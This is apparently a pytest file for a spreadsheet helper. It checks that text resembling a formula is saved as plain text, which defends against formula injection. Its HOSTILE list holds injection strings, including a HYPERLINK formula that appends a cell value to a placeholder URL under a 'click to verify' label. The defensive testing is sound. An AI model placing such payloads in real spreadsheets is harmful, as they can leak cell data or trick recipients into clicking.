"""Every .xlsx the platform writes keeps a text that looks like a formula as text (issue 9, A2)."""

from __future__ import annotations

import ast
import datetime as dt
import zipfile
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from gridguard.core import xlsx

HOSTILE = [
    '=HYPERLINK("http://x"&B2,"点击核对")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=1",
    "#N/A",
]


def written(book: xlsx.Book) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def assert_no_formula(data: bytes, values: list[object]) -> None:
    """Read back with openpyxl AND python-calamine: the values as written, no formula anywhere."""
    wb = openpyxl.load_workbook(BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells), [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    read = [c.value for c in cells]
    for value in values:
        assert value in read
    for value in values:
        if isinstance(value, str) and value[:1] in xlsx.FORMULA_PREFIXES:
            cell = next(c for c in cells if c.value == value)
            assert cell.quotePrefix, value  # Excel keeps it text when a person edits the cell
    found = []
    calamine = CalamineWorkbook.from_filelike(BytesIO(data))
    for name in calamine.sheet_names:
        for row in calamine.get_sheet_by_name(name).to_python():
            found.extend(row)
    for value in values:
        # calamine reads a formula cell as its cached result (none here): only text reads back as written
        assert value in found or (isinstance(value, int | float) and float(value) in found), value
    with zipfile.ZipFile(BytesIO(data)) as zf:
        for member in zf.namelist():
            if member.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(member) and b"<f " not in zf.read(member), member


@pytest.mark.parametrize("write_only", [True, False])
def test_text_that_looks_like_a_formula_is_written_as_text(write_only):
    book = xlsx.Book(write_only=write_only)
    sheet = book.sheet("名单")
    sheet.append(["姓名", "备注"], font=xlsx.HEADER_FONT, fill=xlsx.HEADER_FILL)
    for value in HOSTILE:
        sheet.append([value, "正常文字"])
    assert_no_formula(written(book), [*HOSTILE, "正常文字", "姓名"])


def test_numbers_dates_and_booleans_stay_what_they_are():
    book = xlsx.Book()
    sheet = book.sheet("数")
    sheet.append([-2, -3.5, 0, dt.date(2022, 11, 20), True, None, "-", ""])
    wb = openpyxl.load_workbook(BytesIO(written(book)))
    a, b, c, d, e = (wb.active.cell(1, i) for i in range(1, 6))
    assert (a.value, a.data_type) == (-2, "n") and (b.value, b.data_type) == (-3.5, "n") and c.value == 0
    assert d.value == dt.datetime(2022, 11, 20) and d.is_date  # noqa: DTZ001 - a spreadsheet date has no zone
    assert e.value is True and e.data_type == "b"
    assert wb.active.cell(1, 7).value == "-" and wb.active.cell(1, 7).data_type == "s"


def test_a_style_is_kept_beside_the_text_prefix():
    book = xlsx.Book(write_only=True)
    book.sheet("s").append(["=1+1"], font=xlsx.HEADER_FONT, fill=xlsx.HEADER_FILL)
    cell = openpyxl.load_workbook(BytesIO(written(book))).active["A1"]
    assert cell.value == "=1+1" and cell.data_type == "s" and cell.quotePrefix and cell.font.b


def test_no_module_writes_xlsx_without_this_helper():
    """Only core/xlsx.py imports openpyxl: a writer elsewhere cannot forget the text rule."""
    root = Path(__file__).resolve().parents[2]  # gridguard/
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path == root / "core" / "xlsx.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = []
            if isinstance(node, ast.Import):
                names = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            if any(n == "openpyxl" or n.startswith("openpyxl.") for n in names):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
